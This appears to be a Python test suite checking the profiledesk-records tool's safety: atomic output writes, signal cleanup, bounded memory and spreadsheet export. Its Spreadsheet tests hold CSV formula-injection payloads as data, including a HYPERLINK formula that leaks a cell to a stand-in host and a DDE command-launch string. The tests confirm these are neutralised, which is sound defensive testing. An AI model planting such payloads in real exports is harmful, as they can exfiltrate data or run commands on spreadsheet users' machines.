"""profiledesk-records against what could harm a user's files or data: what -o finds at the
output's place, being stopped part-way, outputs that fail, endless lines, and CSV cells that a
spreadsheet would run.

Usage: safety_test.py RECORDS_PROGRAM DESK_PROGRAM WORK_FOLDER
Set PROFILEDESK_SANITIZED=1 for a sanitizer build, which cannot run under an address-space limit.
"""

import codecs
import csv
import io
import os
import resource
import signal
import stat
import subprocess
import sys
import tempfile
import threading
import time
import unittest

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "support"))
from quiet import without_looks, without_made  # noqa: E402

RECORDS, DESK, WORK = (os.path.abspath(p) for p in sys.argv[1:4])
SANITIZED = os.environ.get("PROFILEDESK_SANITIZED") == "1"
BOUND = 60  # seconds any run may take before its process group is killed
ANSWERS = "Ada Lovelace London 10-12-1815 36 36 -0.5 Inst Ring Kofi Mill Cocoa Repairs West 250 Mall School"


def bounded():
    """No run may write more than 64 MiB."""
    resource.setrlimit(resource.RLIMIT_FSIZE, (64 << 20, 64 << 20))


def run(folder, *args, preexec_fn=bounded, stdout=subprocess.PIPE):
    done = subprocess.run([RECORDS, *args], cwd=folder, stdout=stdout, stderr=subprocess.PIPE, timeout=BOUND,
                          start_new_session=True, preexec_fn=preexec_fn, check=False)
    if args[0] == "check" and done.stdout is not None:
        done.stdout = without_looks(done.stdout)
    done.stderr = without_made(done.stderr)
    return done


def enter(folder, answers=ANSWERS):
    """One record typed at the desk, appended to folder/datas.dat."""
    env = dict(os.environ, ASAN_OPTIONS=os.environ.get("ASAN_OPTIONS", "") + ":detect_leaks=0")
    subprocess.run([DESK], cwd=folder, input=("1 " + answers + "\n").encode(), stdout=subprocess.DEVNULL, env=env,
                   start_new_session=True, timeout=BOUND, check=True, preexec_fn=bounded)


class Scratch(unittest.TestCase):
    def setUp(self):
        self.scratch = tempfile.TemporaryDirectory(dir=WORK)
        self.folder = self.scratch.name
        enter(self.folder)

    def tearDown(self):
        self.scratch.cleanup()

    def path(self, *names):
        return os.path.join(self.folder, *names)

    def read(self, name):
        with open(self.path(name), "rb") as f:
            return f.read()

    def csv_rows(self, name):
        return list(csv.reader(io.StringIO(self.read(name).decode(), newline="")))


class OutputPlaces(Scratch):
    def test_a_regular_file_is_replaced_with_its_mode_and_a_link_is_followed(self):
        os.mkdir(self.path("kept"))
        with open(self.path("kept", "out.csv"), "wb") as f:
            f.write(b"old\n")
        os.chmod(self.path("kept", "out.csv"), 0o600)
        os.symlink("kept/out.csv", self.path("link.csv"))
        for output in ("link.csv", "kept/out.csv"):
            before = os.stat(self.path("kept", "out.csv"))
            done = run(self.folder, "export", "-o", output, "datas.dat")
            self.assertEqual((done.returncode, done.stdout, done.stderr), (0, b"", b""), output)
            after = os.stat(self.path("kept", "out.csv"))
            self.assertNotEqual(after.st_ino, before.st_ino, "written beside and renamed, never in place")
            self.assertEqual(stat.S_IMODE(after.st_mode), 0o600, output)
            self.assertEqual((after.st_uid, after.st_gid), (before.st_uid, before.st_gid))
            self.assertEqual(len(self.csv_rows("kept/out.csv")), 2)
            self.assertEqual(os.readlink(self.path("link.csv")), "kept/out.csv")
            self.assertEqual(sorted(os.listdir(self.path("kept"))), ["out.csv"])

    def test_a_new_file_gets_0666_less_the_umask(self):
        for umask, mode in ((0o022, 0o644), (0o077, 0o600)):
            def with_umask(umask=umask):
                os.umask(umask)
                bounded()
            done = run(self.folder, "export", "-o", f"new-{mode:o}.csv", "datas.dat", preexec_fn=with_umask)
            self.assertEqual(done.returncode, 0)
            self.assertEqual(stat.S_IMODE(os.stat(self.path(f"new-{mode:o}.csv")).st_mode), mode)

    def test_devices_and_standard_output_are_written_straight(self):
        self.assertEqual(run(self.folder, "export", "-o", "/dev/null", "datas.dat").returncode, 0)
        full = run(self.folder, "export", "-o", "/dev/full", "datas.dat")
        self.assertEqual((full.returncode, full.stderr),
                         (1, b"profiledesk-records: /dev/full: No space left on device\n"))
        for device in ("/dev/null", "/dev/full"):
            self.assertTrue(stat.S_ISCHR(os.stat(device).st_mode), device)
        # Into a pipe, and into a file that the caller opened for appending.
        piped = run(self.folder, "export", "-o", "/dev/stdout", "datas.dat")
        self.assertEqual((piped.returncode, len(piped.stdout.splitlines())), (0, 2))
        with open(self.path("appended.csv"), "ab") as appended:
            appended.write(b"first line\r\n")
            appended.flush()
            self.assertEqual(run(self.folder, "export", "-o", "/dev/stdout", "datas.dat", stdout=appended)
                             .returncode, 0)
        self.assertEqual(self.read("appended.csv").count(b"\r\n"), 3)

    def test_a_fifo_is_written_straight(self):
        os.mkfifo(self.path("out.fifo"))
        got = []
        reader = threading.Thread(target=lambda: got.append(self.read("out.fifo")), daemon=True)
        reader.start()
        done = run(self.folder, "export", "-o", "out.fifo", "datas.dat")
        reader.join(timeout=BOUND)
        self.assertEqual(done.returncode, 0)
        self.assertEqual(got[0].count(b"\r\n"), 2)
        self.assertTrue(stat.S_ISFIFO(os.stat(self.path("out.fifo")).st_mode))

    def test_a_folder_is_refused_with_status_2(self):
        os.mkdir(self.path("pages"))
        for command in ("export", "report"):
            done = run(self.folder, command, "-o", "pages", "datas.dat")
            self.assertEqual((done.returncode, done.stderr),
                             (2, b"profiledesk-records: pages: is a folder; name a file to write\n"), command)
        self.assertEqual(os.listdir(self.path("pages")), [])

    def test_the_file_reaches_the_disk_before_the_rename_and_the_folder_after(self):
        trace = self.path("trace")
        env = dict(os.environ, ASAN_OPTIONS=os.environ.get("ASAN_OPTIONS", "") + ":detect_leaks=0")
        subprocess.run(["strace", "-f", "-qq", "-o", trace, "-e", "trace=openat,fsync,rename,renameat,renameat2",
                        RECORDS, "export", "-o", "out.csv", "datas.dat"], cwd=self.folder, env=env,
                       capture_output=True, timeout=BOUND, start_new_session=True, check=True)
        with open(trace, encoding="utf-8") as f:
            calls = [" ".join(line.split()[1:]) for line in f]
        descriptor = {call.rsplit("= ", 1)[1].strip(): call for call in calls if call.startswith("openat(")}
        synced = [descriptor.get(call[len("fsync("):].split(")")[0], "") for call in calls if call.startswith("fsync(")]
        renamed = [i for i, call in enumerate(calls) if call.startswith("rename") and "out.csv.partial-" in call]
        self.assertEqual(len(renamed), 1, calls)
        file_sync = next(i for i, call in enumerate(calls) if call.startswith("fsync(")
                         and "out.csv.partial-" in descriptor.get(call[6:].split(")")[0], ""))
        folder_sync = [i for i, call in enumerate(calls) if call.startswith("fsync(")
                       and "O_DIRECTORY" in descriptor.get(call[6:].split(")")[0], "")]
        self.assertLess(file_sync, renamed[0], synced)
        self.assertTrue(folder_sync and folder_sync[-1] > renamed[0], calls)


class Stopped(Scratch):
    """Stopped while the input still comes: the partial file goes, the old output stays."""

    def start_export(self, preexec_fn=bounded):
        os.mkfifo(self.path("slow.dat"))
        with open(self.path("out.csv"), "wb") as f:
            f.write(b"the earlier export\r\n")
        process = subprocess.Popen([RECORDS, "export", "-o", "out.csv", "slow.dat"], cwd=self.folder,
                                   stderr=subprocess.PIPE, start_new_session=True, preexec_fn=preexec_fn)
        feed = open(self.path("slow.dat"), "wb")  # pylint: disable=consider-using-with
        feed.write(self.read("datas.dat") * 50)
        feed.flush()
        deadline = time.monotonic() + BOUND
        while not any(".partial-" in name for name in os.listdir(self.folder)):
            self.assertLess(time.monotonic(), deadline, "no partial file was made")
            time.sleep(0.01)
        return process, feed

    def finish(self, process):
        try:
            return process.wait(timeout=BOUND), process.stderr.read()
        except subprocess.TimeoutExpired:
            os.killpg(process.pid, signal.SIGKILL)
            raise
        finally:
            process.stderr.close()

    def test_each_stopping_signal_removes_the_partial_file_and_ends_the_run_by_it(self):
        for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
            process, feed = self.start_export()
            try:
                process.send_signal(number)
                status, _ = self.finish(process)
            finally:
                feed.close()
                os.unlink(self.path("slow.dat"))
            self.assertEqual(status, -number, number)
            self.assertEqual(sorted(os.listdir(self.folder)), ["datas.dat", "out.csv"], number)
            self.assertEqual(self.read("out.csv"), b"the earlier export\r\n")

    def test_a_signal_the_parent_ignored_stays_ignored(self):
        def ignoring_hangups():
            signal.signal(signal.SIGHUP, signal.SIG_IGN)
            bounded()
        process, feed = self.start_export(ignoring_hangups)
        try:
            process.send_signal(signal.SIGHUP)
            time.sleep(0.2)
            feed.write(self.read("datas.dat"))
        finally:
            feed.close()
        status, stderr = self.finish(process)
        self.assertEqual((status, stderr), (0, b""))
        self.assertEqual(len(self.csv_rows("out.csv")), 52)


class StandardOutput(Scratch):
    def test_every_command_tells_a_failed_write_with_its_reason(self):
        with open("/dev/full", "wb") as full:
            for args in (["check", "datas.dat"], ["export", "datas.dat"], ["report", "datas.dat"],
                         ["collate", "--into", "office.db", "datas.dat"]):
                done = run(self.folder, *args, stdout=full)
                self.assertEqual(
                    (done.returncode, done.stderr),
                    (1, b"profiledesk-records: could not write to standard output: No space left on device\n"), args)


class LongLines(Scratch):
    def test_a_500_mb_line_is_one_problem_within_a_memory_limit(self):
        # 500 MB of one line, then a whole record; the shell's limit holds the tool too.
        limit = "" if SANITIZED else "ulimit -v 400000; "
        done = subprocess.run(
            ["bash", "-c", limit + '{ head -c 500000000 /dev/zero | tr "\\0" x; echo; cat datas.dat; } | '
                                   '"$0" check /dev/stdin', RECORDS],
            cwd=self.folder, capture_output=True, timeout=120, start_new_session=True, check=False)
        self.assertEqual((done.returncode, done.stderr), (1, b""))
        self.assertEqual(without_looks(done.stdout),
                         b"/dev/stdin:1: a line of more than 65536 bytes\n/dev/stdin: 1 whole record\n")

    def test_a_fifo_fed_from_dev_zero_stays_within_bounded_memory(self):
        os.mkfifo(self.path("zeros"))
        feeder = subprocess.Popen(["sh", "-c", "exec cat /dev/zero > zeros"], cwd=self.folder,
                                  start_new_session=True)
        checker = subprocess.Popen([RECORDS, "check", "zeros"], cwd=self.folder, stdout=subprocess.DEVNULL,
                                   stderr=subprocess.DEVNULL, start_new_session=True, preexec_fn=bounded)
        largest = 0
        try:
            deadline = time.monotonic() + 3
            while time.monotonic() < deadline and checker.poll() is None:
                with open(f"/proc/{checker.pid}/status", encoding="ascii") as status:
                    for line in status:
                        if line.startswith("VmRSS:"):
                            largest = max(largest, int(line.split()[1]))
                time.sleep(0.05)
            self.assertIsNone(checker.poll(), "the endless line ended the run")
        finally:
            for process in (checker, feeder):
                os.killpg(process.pid, signal.SIGKILL)
                process.wait()
        self.assertLess(largest, (200 if SANITIZED else 40) * 1024, "kB resident")

    def test_the_limit_can_be_raised(self):
        with open(self.path("long.dat"), "wb") as f:
            f.write(b"y" * 70000 + b"\r\n" + self.read("datas.dat"))
        default = run(self.folder, "check", "long.dat")
        self.assertEqual((default.returncode, default.stdout),
                         (1, b"long.dat:1: a line of more than 65536 bytes\nlong.dat: 1 whole record\n"))
        raised = run(self.folder, "check", "--max-line-bytes", "70000", "long.dat")
        self.assertEqual(raised.stdout, b"long.dat:1: 1 line that belongs to no record\nlong.dat: 1 whole record\n")

    def test_a_byte_order_mark_is_skipped(self):
        with open(self.path("notepad.dat"), "wb") as f:
            f.write(codecs.BOM_UTF8 + self.read("datas.dat").replace(b"\n", b"\r\n"))
        done = run(self.folder, "check", "notepad.dat")
        self.assertEqual((done.returncode, done.stdout), (0, b"notepad.dat: 1 whole record\n"))


class Spreadsheet(Scratch):
    FORMULAS = ["=HYPERLINK(\"http://x/?\"&F2,\"x\")", "=cmd|'/Ccalc'!A0", "@SUM(1+1)", "+1+1", "-2+3"]

    def setUp(self):
        super().setUp()
        os.unlink(self.path("datas.dat"))
        words = ANSWERS.split()
        words[0:2] = self.FORMULAS[0:2]
        words[7:10] = self.FORMULAS[2:5]
        enter(self.folder, " ".join(words))

    def test_default_csv_keeps_every_cell_exact(self):
        done = run(self.folder, "export", "datas.dat")
        self.assertEqual(done.returncode, 0)
        self.assertTrue(done.stdout.startswith(b"source,"))
        row = list(csv.reader(io.StringIO(done.stdout.decode(), newline="")))[1]
        self.assertEqual([row[4], row[5], row[9], row[10], row[11], row[19]], self.FORMULAS + ["-0.5"])

    def test_for_spreadsheet_a_byte_order_mark_and_no_cell_read_as_a_formula(self):
        done = run(self.folder, "export", "--for-spreadsheet", "-o", "sheet.csv", "datas.dat")
        self.assertEqual((done.returncode, done.stderr), (0, b""))
        data = self.read("sheet.csv")
        self.assertTrue(data.startswith(codecs.BOM_UTF8 + b"source,"))
        header, row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
        self.assertEqual(header[0], "source")
        self.assertEqual([row[4], row[5], row[9], row[10], row[11]], ["'" + f for f in self.FORMULAS])
        # A figure is a number to the spreadsheet, and stays one; plain words are untouched.
        self.assertEqual([row[19], row[6], row[8]], ["-0.5", "London", "36"])
        refused = run(self.folder, "export", "--for-spreadsheet", "--format", "jsonl", "datas.dat")
        self.assertEqual(refused.returncode, 2)


if __name__ == "__main__":
    unittest.main(argv=sys.argv[:1])
